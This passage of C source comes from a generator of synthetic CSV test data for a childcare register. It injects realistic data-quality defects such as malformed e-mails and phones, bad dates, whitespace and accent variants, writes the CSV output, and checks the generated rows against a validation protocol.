	w->stop = NO_DATE;
	if (w->start < g->end_day - 60 && chance(r, 450)) {
		uint32_t d1 = 60 + below(r, 18 * 365), d2 = 60 + below(r, 18 * 365);
		int32_t stop = w->start + (int32_t)(d1 < d2 ? d1 : d2);
		if (stop > g->end_day)
			stop = w->start + 30 +
			       (int32_t)below(r, (uint32_t)(g->end_day -
							    w->start - 30));
		w->stop = stop;
	}
	s = a->len;
	ar_date(a, w->start, ds);
	w->f[C_START] = sp_from(a, s);
	if (w->stop != NO_DATE) {
		s = a->len;
		ar_date(a, w->stop, ds);
		w->f[C_STOP] = sp_from(a, s);
		w->stop_year = (int16_t)year_of(w->stop);
	}

	/* DOS-<start year>-<serial of that year>, six digits */
	s = a->len;
	ar_puts(a, "DOS-");
	ar_num(a, (uint64_t)y, 4);
	ar_putc(a, '-');
	ar_num(a, ++g->dossier_seq[y - Y_MIN], 6);
	w->f[C_DOSSIER] = sp_from(a, s);

	/* status, subsidy, income-related price, places, legal form */
	w->statuut = -1;
	if (o->statuut >= 0 && chance(r, 950)) {
		w->statuut = o->statuut;
		w->f[C_STATUUT] = spell(g, &TAB_STATUUT, (unsigned)o->statuut);
	}
	w->trap = -1;
	if (w->type != T_BSO ? chance(r, 850) : chance(r, 80)) {
		w->trap = (int8_t)(w->type != T_BSO ? WPICK(r, TRAP_W) : TR0);
		w->f[C_SUBSIDIE] = spell(g, &TAB_TRAP, (unsigned)w->trap);
	}
	u = below(r, 100);
	if (w->trap >= TR2)
		w->ikt = (int8_t)(u < 90 ? IKT_JA : u < 95 ? IKT_NEE : -1);
	else if (w->trap >= 0)
		w->ikt = (int8_t)(u < 85 ? IKT_NEE : u < 90 ? IKT_JA : -1);
	else
		w->ikt = (int8_t)(u < 35 ? IKT_JA : u < 75 ? IKT_NEE : -1);
	if (w->ikt >= 0)
		w->f[C_IKT] = spell(g, &TAB_IKT, (unsigned)w->ikt);
	u = below(r, 100);
	switch (w->type) {
	case T_GEZIN:
		w->cap = (int16_t)(1 + below(r, 8));
		break;
	case T_GROEP:
		w->cap = (int16_t)(9 + below(r, u < 60 ? 20 : u < 90 ? 60 : 142));
		break;
	default:
		w->cap = (int16_t)(14 + below(r, u < 60 ? 40 : 137));
		break;
	}
	s = a->len;
	ar_num(a, (uint64_t)w->cap, 1);
	w->f[C_CAP] = sp_from(a, s);
	w->rv = -1;
	if (o->rv >= 0 && chance(r, 950)) {
		w->rv = o->rv;
		w->f[C_RECHTSVORM] = spell(g, &TAB_RV, (unsigned)o->rv);
	}
	if (chance(r, 280))
		w->f[C_OPM] = sp_str(a, PICK(r, OPMERKING));
}

/* One window: organisers with one to four initiatives each (30 % more
 * than one), then the rows shuffled. */
static void gen_window(struct gen *g, size_t n)
{
	g->a.len = 0;
	g->n_slots = 0;
	g->n_orgs = 0;
	while (g->n_slots < n) {
		unsigned k = chance(&g->rng, 300) ? 2 + below(&g->rng, 3) : 1;

		if (k > n - g->n_slots)
			k = (unsigned)(n - g->n_slots);
		new_org(g, &g->orgs[g->n_orgs]);
		for (unsigned i = 0; i < k; i++)
			g->slot[g->n_slots++] = (uint32_t)g->n_orgs << 2 | i;
		g->org_rows[g->n_orgs++] = 0;
	}
	for (size_t i = n; i > 1; i--) {
		size_t j = below(&g->rng, (uint32_t)i);
		uint32_t t = g->slot[i - 1];
		g->slot[i - 1] = g->slot[j];
		g->slot[j] = t;
	}
	g->org_end = g->a.len;
}

/* The row of slot i of the window, in g->row. */
static struct row *slot_row(struct gen *g, size_t i)
{
	uint32_t org = g->slot[i] >> 2;

	g->a.len = g->org_end;
	new_row(g, &g->orgs[org], org, (g->slot[i] & 3) == 0, &g->row);
	return &g->row;
}

/* The selection rule of the protocol, as the generator knows it: start or
 * stop year in 2015..2020, or no stop date.  For --stats and --check. */
static bool selected(const struct row *w)
{
	return w->stop == NO_DATE ||
	       (w->start_year >= 2015 && w->start_year <= 2020) ||
	       (w->stop_year >= 2015 && w->stop_year <= 2020);
}

/* ------------------------------------------------------- applying defects */

static bool has_non_ascii(const struct arena *a, struct span s)
{
	for (uint32_t i = 0; i < s.len; i++)
		if ((uint8_t)a->p[s.off + i] >= 0x80)
			return true;
	return false;
}

/* A copy of span s with the prefix and suffix around it. */
static struct span wrap(struct arena *a, struct span s, const char *pre,
			const char *post)
{
	size_t o = a->len;

	ar_puts(a, pre);
	ar_room(a, s.len);
	memcpy(a->p + a->len, a->p + s.off, s.len);
	a->len += s.len;
	ar_puts(a, post);
	return sp_from(a, o);
}

static void defect_email(struct gen *g, struct row *w)
{
	struct rng *r = &g->drng;
	struct arena *a = &g->a;
	struct span e = w->f[C_EMAIL];
	uint32_t at;
	size_t o;
	unsigned form = below(r, 7);

	if (e.len == 0) {
		o = a->len;
		ar_fold(a, "Jan", false);
		ar_putc(a, '.');
		ar_fold(a, PICK(r, FAMILY), false);
		ar_puts(a, "@telenet.be");
		e = sp_from(a, o);
	}
	for (at = 0; at < e.len && a->p[e.off + at] != '@'; at++)
		;
	o = a->len;
	switch (form) {
	case 0: /* "jan.peeters@" */
		ar_room(a, at + 1);
		memcpy(a->p + a->len, a->p + e.off, at + 1);
		a->len += at + 1;
		break;
	case 1: { /* "jan peeters@telenet.be" */
		uint32_t cut = at / 2;
		for (uint32_t i = 0; i < at; i++)
			if (a->p[e.off + i] == '.' || a->p[e.off + i] == '_') {
				cut = i;
				break;
			}
		ar_room(a, e.len + 1);
		memcpy(a->p + a->len, a->p + e.off, cut);
		a->len += cut;
		a->p[a->len++] = ' ';
		if (a->p[e.off + cut] == '.' || a->p[e.off + cut] == '_')
			cut++;
		memcpy(a->p + a->len, a->p + e.off + cut, e.len - cut);
		a->len += e.len - cut;
		break;
	}
	case 2: /* "@gmail.com" */
		ar_room(a, e.len - at);
		memcpy(a->p + a->len, a->p + e.off + at, e.len - at);
		a->len += e.len - at;
		break;
	case 3: /* "jan.peeters@@telenet.be" */
		ar_room(a, e.len + 1);
		memcpy(a->p + a->len, a->p + e.off, at + 1);
		a->len += at + 1;
		memcpy(a->p + a->len, a->p + e.off + at, e.len - at);
		a->len += e.len - at;
		break;
	case 4: { /* "jan.peeters@telenet" */
		uint32_t dot = e.len;
		while (dot > at && a->p[e.off + dot - 1] != '.')
			dot--;
		ar_room(a, e.len);
		memcpy(a->p + a->len, a->p + e.off, dot > at + 1 ? dot - 1 : e.len);
		a->len += dot > at + 1 ? dot - 1 : e.len;
		break;
	}
	case 5: /* "jan.peeters (at) telenet.be" */
		ar_room(a, e.len + 8);
		memcpy(a->p + a->len, a->p + e.off, at);
		a->len += at;
		ar_puts(a, " (at) ");
		memcpy(a->p + a->len, a->p + e.off + at + 1, e.len - at - 1);
		a->len += e.len - at - 1;
		break;
	default: /* two addresses in one cell */
		w->f[C_EMAIL] = wrap(a, e, "", "; info@gmail.com");
		return;
	}
	w->f[C_EMAIL] = sp_from(a, o);
}

static void defect_phone(struct gen *g, struct row *w)
{
	struct rng *r = &g->drng;
	struct arena *a = &g->a;
	struct span p = w->f[C_TEL];
	unsigned form = below(r, 8);
	size_t o;

	if (p.len == 0)
		p = phone(g, r, true, NULL);
	o = a->len;
	switch (form) {
	case 0: /* "12345" */
		ar_num(a, 1000 + below(r, 99000), 4);
		break;
	case 1: { /* "0470 12 34": the last two digits lost */
		uint32_t n = p.len, digits = 0;
		while (n > 0 && digits < 2) {
			char c = a->p[p.off + n - 1];
			digits += c >= '0' && c <= '9';
			n--;
		}
		while (n > 0 && (a->p[p.off + n - 1] < '0' ||
				 a->p[p.off + n - 1] > '9'))
			n--;
		ar_room(a, n);
		memcpy(a->p + a->len, a->p + p.off, n);
		a->len += n;
		break;
	}
	case 2: /* "470 12 34 56": the leading 0 lost, as spreadsheets do */
		if (p.len > 2 && a->p[p.off] == '0' && a->p[p.off + 1] != '0') {
			ar_room(a, p.len);
			memcpy(a->p + a->len, a->p + p.off + 1, p.len - 1);
			a->len += p.len - 1;
		} else {
			ar_puts(a, "470 ");
			ar_num(a, below(r, 100), 2);
			ar_puts(a, " 34 56");
		}
		break;
	case 3: { /* two numbers in one cell */
		struct span q = phone(g, r, false, NULL);
		o = a->len;
		w->f[C_TEL] = wrap(a, p, "", " / ");
		ar_room(a, q.len);
		memcpy(a->p + a->len, a->p + q.off, q.len);
		a->len += q.len;
		w->f[C_TEL].len = (uint32_t)(a->len - w->f[C_TEL].off);
		return;
	}
	case 4:
		w->f[C_TEL] = wrap(a, p, "gsm ", "");
		return;
	case 5:
		w->f[C_TEL] = wrap(a, p, "", " ext 12");
		return;
	case 6: /* two digits too many */
		w->f[C_TEL] = wrap(a, p, "", " 89");
		return;
	default: /* nine digits, but 44x is no mobile range */
		ar_puts(a, "+32 44");
		ar_num(a, below(r, 10000000), 7);
		break;
	}
	w->f[C_TEL] = sp_from(a, o);
}

static const enum col WS_COLS[] = {
	C_NAAM, C_VOORNAAM, C_EMAIL, C_TEL, C_TYPE, C_START, C_STOP,
	C_STATUUT, C_GEMEENTE, C_SUBSIDIE, C_IKT, C_CAP, C_RECHTSVORM,
};
static const char *const WS_PRE[] = { " ", "  ", "\xc2\xa0", " \xc2\xa0", "" };
static const char *const WS_POST[] = { " ", "   ", "\xc2\xa0", "\xc2\xa0 ", "" };

static void apply_defect(struct gen *g, struct row *w, enum defect d)
{
	struct rng *r = &g->drng;
	struct arena *a = &g->a;

	w->defect = (uint8_t)d;
	switch (d) {
	case D_BAD_DATE:
		w->target = chance(r, 600) ? C_START : C_STOP;
		w->f[w->target] = sp_str(a, PICK(r, BAD_DATES));
		break;
	case D_START_1800S:
		w->target = C_START;
		w->f[C_START] = sp_str(a, PICK(r, OLD_DATES));
		break;
	case D_BAD_CAPACITY:
		w->target = C_CAP;
		w->f[C_CAP] = sp_str(a, PICK(r, BAD_CAPS));
		break;
	case D_BAD_EMAIL:
		w->target = C_EMAIL;
		defect_email(g, w);
		break;
	case D_BAD_PHONE:
		w->target = C_TEL;
		defect_phone(g, w);
		break;
	case D_FORMULA:
		w->target = C_NAAM;
		w->f[C_NAAM] = sp_str(a, PICK(r, FORMULAS));
		break;
	case D_NFD: {
		static const enum col C[] = { C_NAAM, C_VOORNAAM, C_GEMEENTE };
		unsigned first = below(r, 3);
		w->target = NCOL;
		for (unsigned i = 0; i < 3; i++) {
			enum col c = C[(first + i) % 3];
			if (has_non_ascii(a, w->f[c])) {
				w->target = (uint8_t)c;
				break;
			}
		}
		if (w->target == NCOL) { /* nothing accented: make it so */
			if (w->f[C_VOORNAAM].len) {
				w->target = C_VOORNAAM;
				w->f[C_VOORNAAM] =
					sp_str(a, PICK(r, GIVEN_ACCENT));
			} else {
				w->target = C_NAAM;
				w->f[C_NAAM] = sp_str(a, PICK(r, ORG_ACCENT));
			}
		}
		w->nfd |= 1u << w->target;
		break;
	}
	case D_EMBEDDED: {
		unsigned u = below(r, 3);
		if (u == 0) {
			w->target = C_NAAM;
			w->f[C_NAAM] = wrap(a, w->f[C_NAAM], "",
					    PICK(r, NAAM_JUNK));
		} else if (u == 1) {
			w->target = C_GEMEENTE;
			w->f[C_GEMEENTE] = wrap(a, w->f[C_GEMEENTE], "",
						PICK(r, GEMEENTE_JUNK));
		} else {
			w->target = C_OPM;
			w->f[C_OPM] = sp_str(a, PICK(r, OPMERKING_JUNK));
		}
		break;
	}
	case D_UNKNOWN_ENUM: {
		unsigned u = below(r, 10);
		if (u < 6) {
			w->target = C_TYPE;
			w->f[C_TYPE] = sp_str(a, PICK(r, BAD_TYPE));
		} else if (u == 6) {
			w->target = C_STATUUT;
			w->f[C_STATUUT] = sp_str(a, PICK(r, BAD_STATUUT));
		} else if (u == 7) {
			w->target = C_SUBSIDIE;
			w->f[C_SUBSIDIE] = sp_str(a, PICK(r, BAD_TRAP));
		} else if (u == 8) {
			w->target = C_RECHTSVORM;
			w->f[C_RECHTSVORM] = sp_str(a, PICK(r, BAD_RV));
		} else {
			w->target = C_IKT;
			w->f[C_IKT] = sp_str(a, PICK(r, BAD_IKT));
		}
		break;
	}
	case D_EMPTY_REQUIRED: {
		static const enum col C[] = { C_NAAM, C_NAAM, C_START, C_START,
					      C_GEMEENTE, C_TYPE };
		w->target = PICK(r, C);
		w->f[w->target] = chance(r, 300) ? sp_str(a, "  ") : SP_EMPTY;
		break;
	}
	case D_MISSING_COLUMN:
		w->short_row = true;
		break;
	case D_WHITESPACE: {
		unsigned k = 1 + below(r, 3);
		for (unsigned i = 0; i < k; i++) {
			enum col c = PICK(r, WS_COLS);
			unsigned pre = below(r, ARRAY_LEN(WS_PRE));
			unsigned post = below(r, ARRAY_LEN(WS_POST));
			if (w->f[c].len == 0)
				continue;
			if (pre == ARRAY_LEN(WS_PRE) - 1 &&
			    post == ARRAY_LEN(WS_POST) - 1)
				post = 2; /* at least one side: an NBSP */
			w->f[c] = wrap(a, w->f[c], WS_PRE[pre], WS_POST[post]);
			w->target = (uint8_t)c;
		}
		if (w->target == 0) { /* every pick was empty: the name */
			w->target = C_NAAM;
			w->f[C_NAAM] = wrap(a, w->f[C_NAAM], "\xc2\xa0", " ");
		}
		break;
	}
	default:
		break;
	}
}

/* --------------------------------------------------------------- output */

enum encoding { ENC_UTF8, ENC_UTF8_BOM, ENC_CP1252 };

struct out {
	int fd;
	const char *path;
	uint8_t *buf;
	size_t len, cap;
	uint64_t bytes;
	char delim;
	bool crlf;
	enum encoding enc;
	bool nfd_all;         /* --nfd, and the output is UTF-8 */
	const struct header *hdr;
	/* per byte: CLS_QUOTE if it forces quoting, CLS_HIGH if not ASCII */
	uint8_t cls[256];
	uint64_t delim8;      /* the delimiter in every byte */
	/* the last data row, for the duplicate-row defect: in buf at
	 * last_start while last_in_buf, else saved in prev */
	size_t last_start, last_len;
	bool last_in_buf, have_last;
	uint8_t *prev;
	size_t prev_cap, prev_len;
};

static void out_flush(struct out *o)
{
	size_t done = 0;

	while (done < o->len) {
		ssize_t k = write(o->fd, o->buf + done, o->len - done);
		if (k < 0) {
			if (errno == EINTR)
				continue;
			die(o->path, strerror(errno));
		}
		done += (size_t)k;
	}
	o->bytes += o->len;
	o->len = 0;
}

/* Room for n more bytes; a flush first keeps a copy of the last row. */
static void out_room(struct out *o, size_t n)
{
	if (o->cap - o->len >= n)
		return;
	if (o->last_in_buf) {
		if (o->prev_cap < o->last_len) {
			o->prev_cap = o->last_len * 2;
			o->prev = xrealloc(o->prev, o->prev_cap);
		}
		memcpy(o->prev, o->buf + o->last_start, o->last_len);
		o->prev_len = o->last_len;
		o->last_in_buf = false;
	}
	out_flush(o);
	if (o->cap < n) {
		o->cap = n;
		o->buf = xrealloc(o->buf, o->cap);
	}
}

#define CLS_QUOTE 1
#define CLS_HIGH 2
#define BYTES8(c) ((uint64_t)(c) * 0x0101010101010101u)
#define QUOTE8 BYTES8('"')
#define LF8 BYTES8('\n')
#define CR8 BYTES8('\r')

/* Non-zero iff some byte of v is zero. */
static inline uint64_t zero_byte(uint64_t v)
{
	return (v - 0x0101010101010101u) & ~v & 0x8080808080808080u;
}

static void out_classes(struct out *o)
{
	memset(o->cls, 0, sizeof o->cls);
	for (int c = 0x80; c < 0x100; c++)
		o->cls[c] = CLS_HIGH;
	o->cls[(uint8_t)o->delim] = CLS_QUOTE;
	o->cls['"'] = o->cls['\n'] = o->cls['\r'] = CLS_QUOTE;
	o->delim8 = BYTES8((uint8_t)o->delim);
}

/*
 * One field, quoted if it holds the delimiter, a quote or a line break,
 * in the output encoding: Windows-1252 bytes, or UTF-8 with accented
 * letters decomposed when nfd.  The caller made room for 3 * n + 2 bytes.
 * Most fields are plain ASCII: they are copied while classified, in one
 * pass, and only the others are written again the slow way.
 */
static __attribute__((noinline, cold)) void not_cp1252(uint32_t cp)
{
	char u[16];

	snprintf(u, sizeof u, "U+%04" PRIX32, cp);
	die("internal: not representable in Windows-1252", u);
}

/* The rest of put_field, for fields that need quoting or conversion. */
static __attribute__((noinline)) void put_slow(struct out *o,
					       const uint8_t *s, size_t n,
					       bool nfd, bool quote)
{
	uint8_t *w = o->buf + o->len;

	if (quote)
		*w++ = '"';
	for (size_t i = 0; i < n;) {
		uint32_t cp;
		unsigned k;

		if (s[i] < 0x80) {
			if (s[i] == '"')
				*w++ = '"';
			*w++ = s[i++];
			continue;
		}
		k = u8_decode(s + i, n - i, &cp);
		if (k == 0)
			die("internal: a generated value is not UTF-8", NULL);
		if (o->enc == ENC_CP1252) {
			int b = cp1252_byte(cp);
			if (b < 0)
				not_cp1252(cp);
			*w++ = (uint8_t)b;
		} else if (nfd && cp >= NFD_LO && cp < NFD_HI &&
			   nfd_tab[cp - NFD_LO].len) {
			memcpy(w, nfd_tab[cp - NFD_LO].b,
			       nfd_tab[cp - NFD_LO].len);
			w += nfd_tab[cp - NFD_LO].len;
		} else {
			memcpy(w, s + i, k);
			w += k;
		}
		i += k;
	}
	if (quote)
		*w++ = '"';
	o->len = (size_t)(w - o->buf);
}

static inline void put_field(struct out *o, const uint8_t *s, size_t n,
			     bool nfd)
{
	uint8_t *w = o->buf + o->len;
	uint8_t m = 0;
	uint64_t hi = 0, special = 0;
	size_t i = 0;

	/* eight bytes at a time: any byte >= 0x80, any byte that forces
	 * quoting (a zero byte in x ^ c, found without branches) */
	for (; i + 8 <= n; i += 8) {
		uint64_t x;
		memcpy(&x, s + i, 8);
		memcpy(w + i, &x, 8);
		hi |= x;
		special |= zero_byte(x ^ o->delim8) | zero_byte(x ^ QUOTE8) |
			   zero_byte(x ^ LF8) | zero_byte(x ^ CR8);
	}
	for (; i < n; i++) {
		uint8_t c = s[i];
		w[i] = c;
		m |= o->cls[c];
	}
	if (hi & 0x8080808080808080u)
		m |= CLS_HIGH;
	if (special)
		m |= CLS_QUOTE;
	if (m == 0) {
		o->len += n;
		return;
	}
	if (m == CLS_HIGH && o->enc != ENC_CP1252 && !nfd) {
		o->len += n; /* UTF-8 as generated */
		return;
	}
	put_slow(o, s, n, nfd, m & CLS_QUOTE);
}

static void put_eol(struct out *o)
{
	if (o->crlf)
		o->buf[o->len++] = '\r';
	o->buf[o->len++] = '\n';
}

static void write_header(struct out *o)
{
	out_room(o, 4096);
	if (o->enc == ENC_UTF8_BOM) {
		memcpy(o->buf + o->len, "\xef\xbb\xbf", 3);
		o->len += 3;
	}
	for (int j = 0; j < NCOL; j++) {
		const char *h = o->hdr[j].name;
		if (j)
			o->buf[o->len++] = (uint8_t)o->delim;
		put_field(o, (const uint8_t *)h, strlen(h), o->nfd_all);
	}
	put_eol(o);
}

static void write_row(struct out *o, const struct row *w, const char *ar)
{
	int ncols = w->short_row ? NCOL - 1 : NCOL;
	size_t need = 2 * NCOL + 2, start;

	for (int c = 0; c < NCOL; c++)
		need += 3 * (size_t)w->f[c].len + 2;
	out_room(o, need);
	start = o->len;
	for (int j = 0; j < ncols; j++) {
		enum col c = o->hdr[j].col;
		if (j)
			o->buf[o->len++] = (uint8_t)o->delim;
		put_field(o, (const uint8_t *)ar + w->f[c].off, w->f[c].len,
			  o->nfd_all || (w->nfd >> c & 1));
	}
	put_eol(o);
	o->last_start = start;
	o->last_len = o->len - start;
	o->last_in_buf = o->have_last = true;
}

/* The row before, byte for byte. */
static void write_duplicate(struct out *o)
{
	size_t n = o->last_len, start;

	out_room(o, n);
	start = o->len;
	memcpy(o->buf + o->len,
	       o->last_in_buf ? o->buf + o->last_start : o->prev, n);
	o->len += n;
	o->last_start = start;
	o->last_in_buf = true;
}

/* --------------------------------------------------------------- --check */

/*
 * --check PROTOCOL verifies the generator against kluis's own rules: each
 * header maps to the intended field (extra columns to none), every
 * spelling normalises to its value, every clean row is valid and selected
 * exactly when the generator says so, and every defect has the effect
 * docs/generator.md promises.  It only reads the rows as generated (before
 * the output encoding), so it says nothing about the CSV writer; the
 * tests/gen_check.py script reads the files.
 */
struct checker {
	struct protocol *p;
	const struct pfield *field[NCOL];
	struct kbuf in, tmp;
	struct kbuf val[NCOL];
	uint64_t rows, failures;
	bool nfd_all;
};

static void check_fail(struct checker *ck, uint64_t line, const char *what,
		       const char *detail)
{
	if (ck->failures++ >= 20)
		return;
	if (line)
		fprintf(stderr, "kluis-gen: check: record %" PRIu64 ": ", line);
	else
		fprintf(stderr, "kluis-gen: check: ");
	fprintf(stderr, "%s%s%s\n", what, detail ? ": " : "",
		detail ? detail : "");
}

/* The bytes of column c as they are written in UTF-8 (decomposed where
 * asked), normalised for its field. */
static int check_norm(struct checker *ck, const struct row *w, enum col c,
		      const char *ar, const char **why)
{
	struct kerr e;
	bool nfd = ck->nfd_all || (w->nfd >> c & 1);
	const uint8_t *s = (const uint8_t *)ar + w->f[c].off;

	kbuf_reset(&ck->in);
	for (uint32_t i = 0; i < w->f[c].len;) {
		uint32_t cp;
		unsigned k = u8_decode(s + i, w->f[c].len - i, &cp);
		int rc;

		if (k == 0)
			die("internal: a generated value is not UTF-8", NULL);
		if (nfd && cp >= NFD_LO && cp < NFD_HI &&
		    nfd_tab[cp - NFD_LO].len)
			rc = kbuf_append(&ck->in, nfd_tab[cp - NFD_LO].b,
					 nfd_tab[cp - NFD_LO].len, &e);
		else
			rc = kbuf_append(&ck->in, s + i, k, &e);
		if (rc)
			die("out of memory", NULL);
		i += k;
	}
	return pfield_normalise(ck->field[c], (const char *)ck->in.p,
				ck->in.len, &ck->val[c], why);
}

static const char *val(const struct checker *ck, enum col c)
{
	return ck->val[c].len ? (const char *)ck->val[c].p : "";
}

/* What a clean row's column must normalise to ("" for empty). */
static void expected(const struct row *w, enum col c, char *buf, size_t n)
{
	int y;
	unsigned m, d;

	buf[0] = '\0';
	switch (c) {
	case C_TEL:
		snprintf(buf, n, "%s", w->e164);
		break;
	case C_TYPE:
		snprintf(buf, n, "%s", TYPE_CANON[w->type]);
		break;
	case C_START:
	case C_STOP:
		if (c == C_STOP && w->stop == NO_DATE)
			break;
		civil(c == C_START ? w->start : w->stop, &y, &m, &d);
		snprintf(buf, n, "%04d-%02u-%02u", y, m, d);
		break;
	case C_STATUUT:
		if (w->statuut >= 0)
			snprintf(buf, n, "%s", STATUUT_CANON[w->statuut]);
		break;
	case C_SUBSIDIE:
		if (w->trap >= 0)
			snprintf(buf, n, "%s", TRAP_CANON[w->trap]);
		break;
	case C_IKT:
		if (w->ikt >= 0)
			snprintf(buf, n, "%s", IKT_CANON[w->ikt]);
		break;
	case C_CAP:
		snprintf(buf, n, "%d", w->cap);
		break;
	case C_RECHTSVORM:
		if (w->rv >= 0)
			snprintf(buf, n, "%s", RV_CANON[w->rv]);
		break;
	default: /* text, e-mail: any valid value, empty only if blank */
		snprintf(buf, n, "%s", w->f[c].len ? "?" : "");
		break;
	}
}

/* A row without defects: every value valid, as expected, and the
 * protocol's selection agreeing with the generator's. */
static void check_clean(struct checker *ck, const struct row *w,
			const char *ar, uint64_t line)
{
	const char *values[64] = { 0 };

	for (int c = 0; c < NCOL; c++) {
		const char *why;
		char want[64];
		int rc;

		if (!ck->field[c])
			continue;
		rc = check_norm(ck, w, (enum col)c, ar, &why);
		expected(w, (enum col)c, want, sizeof want);
		if (rc == NORM_INVALID) {
			check_fail(ck, line, COL_FIELD[c], why);
		} else if (rc == NORM_EMPTY) {
			if (want[0] || ck->field[c]->required ||
			    w->f[c].len)
				check_fail(ck, line, COL_FIELD[c],
					   "unexpectedly empty");
		} else if (strcmp(want, "?") != 0 &&
			   strcmp(want, val(ck, (enum col)c)) != 0) {
			check_fail(ck, line, COL_FIELD[c],
				   "normalises to another value");
		}
		if (ck->field[c]->index < ARRAY_LEN(values))
			values[ck->field[c]->index] = val(ck, (enum col)c);
	}
	if (psel_eval(ck->p->selection, values) != selected(w))
		check_fail(ck, line, "selection",
			   "the protocol and the generator disagree");
}

/* A row with a defect: the defect has its promised effect, and nothing
 * else changed (the clean copy is the row before the defect). */
static void check_dirty(struct checker *ck, const struct row *w,
			const struct row *clean, const char *ar, uint64_t line)
{
	const char *why;
	int rc;
	enum col t = (enum col)w->target;

	switch (w->defect) {
	case D_BAD_DATE:
	case D_START_1800S:
	case D_BAD_CAPACITY:
	case D_BAD_EMAIL:
	case D_BAD_PHONE:
	case D_UNKNOWN_ENUM:
		if (check_norm(ck, w, t, ar, &why) != NORM_INVALID)
			check_fail(ck, line, DEFECT_NAME[w->defect],
				   "value is not invalid");
		break;
	case D_EMPTY_REQUIRED:
		if (check_norm(ck, w, t, ar, &why) != NORM_EMPTY ||
		    !ck->field[t]->required)
			check_fail(ck, line, DEFECT_NAME[w->defect],
				   "required value is not empty");
		break;
	case D_FORMULA:
	case D_EMBEDDED:
		if (ck->field[t] && check_norm(ck, w, t, ar, &why) != NORM_OK)
			check_fail(ck, line, DEFECT_NAME[w->defect], why);
		break;
	case D_NFD:
	case D_WHITESPACE:
		/* the same values as the clean row, once normalised */
		for (int c = 0; c < NCOL; c++) {
			struct kbuf keep = KBUF_INIT(1u << 16);
			struct kerr e;
			if (!ck->field[c])
				continue;
			if (w->defect == D_NFD && (enum col)c == t &&
			    w->f[c].off != clean->f[c].off) {
				/* an accented value put in: valid is enough */
				if (check_norm(ck, w, t, ar, &why) != NORM_OK)
					check_fail(ck, line, "nfd_accents", why);
				continue;
			}
			rc = check_norm(ck, clean, (enum col)c, ar, &why);
			if (kbuf_append(&keep, ck->val[c].p ? ck->val[c].p :
							      (const uint8_t *)"",
					ck->val[c].len, &e))
				die("out of memory", NULL);
			if (check_norm(ck, w, (enum col)c, ar, &why) != rc ||
			    keep.len != ck->val[c].len ||
			    (keep.len && memcmp(keep.p, ck->val[c].p,
						keep.len) != 0))
				check_fail(ck, line, DEFECT_NAME[w->defect],
					   COL_FIELD[c]);
			kbuf_free(&keep);
		}
		break;
	default:
		break;
	}
}

/* Every spelling (and its case forms) of every enumeration normalises to
 * its canonical value. */
static void check_spellings(struct checker *ck)
{
	struct arena a = { 0 };

	for (size_t t = 0; t < ARRAY_LEN(TABS); t++) {
		const struct pfield *f = protocol_field(ck->p, TABS[t]->field);
		if (!f) {
			check_fail(ck, 0, "no protocol field", TABS[t]->field);
			continue;
		}
		for (unsigned i = 0; i < TABS[t]->n; i++)
			for (int cf = CF_ASIS; cf <= CF_FIRST; cf++) {
				const char *why;
				a.len = 0;
				ar_case(&a, TABS[t]->e[i].s, (enum case_form)cf);
				if (pfield_normalise(f, a.p, a.len, &ck->tmp,
						     &why) != NORM_OK ||
				    strcmp((const char *)ck->tmp.p,
					   TABS[t]->canon[TABS[t]->e[i].v]) != 0)
					check_fail(ck, 0, "spelling not matched",
						   TABS[t]->e[i].s);
			}
	}
	free(a.p);
}

static void check_headers(struct checker *ck, const struct header *h)
{
	bool seen[64] = { false };

	for (int j = 0; j < NCOL; j++) {
		const struct pfield *f;
		struct out o = { 0 };
		enum col c = h[j].col;

		/* the header as written, decomposed under --nfd */
		o.buf = xrealloc(NULL, 3 * strlen(h[j].name) + 2);
		o.cap = 3 * strlen(h[j].name) + 2;
		o.delim = ';';
		out_classes(&o);
		put_field(&o, (const uint8_t *)h[j].name, strlen(h[j].name),
			  ck->nfd_all);
		f = protocol_field_by_header(ck->p, (const char *)o.buf, o.len);
		free(o.buf);
		if (COL_FIELD[c] == NULL ? f != NULL :
		    f == NULL || strcmp(f->name, COL_FIELD[c]) != 0)
			check_fail(ck, 0, "header maps to the wrong field",
				   h[j].name);
		if (f && f->index < ARRAY_LEN(seen))
			seen[f->index] = true;
	}
	for (size_t i = 0; i < ck->p->n_fields; i++)
		if (i >= ARRAY_LEN(seen) || !seen[i])
			check_fail(ck, 0, "no column for protocol field",
				   ck->p->fields[i].name);
}

static void check_open(struct checker *ck, const char *path, bool nfd_all)
{
	struct pdiag d;
	struct kerr e;

	memset(ck, 0, sizeof *ck);
	ck->nfd_all = nfd_all;
	kbuf_init(&ck->in, 1u << 16, false);
	kbuf_init(&ck->tmp, 1u << 16, false);
	for (int c = 0; c < NCOL; c++)
		kbuf_init(&ck->val[c], 1u << 16, false);
	pdiag_init(&d);
	if (protocol_load(path, &ck->p, &d, &e) != 0) {
		char buf[512];
		for (size_t i = 0; i < d.n; i++)
			if (!d.items[i].warning)
				fprintf(stderr, "kluis-gen: %s: %s\n",
					d.items[i].path, d.items[i].msg);
		pdiag_free(&d);
		die("cannot load the protocol", kerr_str(&e, buf, sizeof buf));
	}
	pdiag_free(&d);
	for (int c = 0; c < NCOL; c++)
		if (COL_FIELD[c] &&
		    !(ck->field[c] = protocol_field(ck->p, COL_FIELD[c])))
			check_fail(ck, 0, "no protocol field", COL_FIELD[c]);
	if (ck->failures)
		die(path, "not a protocol with the fields of this generator's "
			  "register (see docs/generator.md)");
	check_headers(ck, HEADERS1);
	check_headers(ck, HEADERS2);
	check_spellings(ck);
}

static void check_close(struct checker *ck)
{
	kbuf_free(&ck->in);
	kbuf_free(&ck->tmp);
	for (int c = 0; c < NCOL; c++)
		kbuf_free(&ck->val[c]);
	protocol_free(ck->p);
}

/* ----------------------------------------------------------------- main */

struct options {
	uint64_t rows;
	bool rows_set;
	uint64_t seed;
	uint32_t dirty_ppm;     /* per million rows */
	double dirty;
	enum encoding enc;
	char delim;
	bool crlf, nfd;
	int headers;
	const char *out, *stats, *check;
};

static uint64_t parse_u64(const char *opt, const char *s)
{
	char *end;
	unsigned long long v;

	errno = 0;
	if (!*s || *s == '-' || *s == '+')
		usage_error("not a whole number", opt);
	v = strtoull(s, &end, 10);
	if (errno || *end)
		usage_error("not a whole number", opt);
	return (uint64_t)v;
}

static bool known_option(const char *name)
{
	static const char *const WITH_VALUE[] = {
		"--rows", "--seed", "--dirty", "--encoding", "--delimiter",
		"--headers", "--out", "--stats", "--check",
	};

	for (size_t i = 0; i < ARRAY_LEN(WITH_VALUE); i++)
		if (strcmp(name, WITH_VALUE[i]) == 0)
			return true;
	return false;
}

static void parse_options(int argc, char **argv, struct options *op)
{
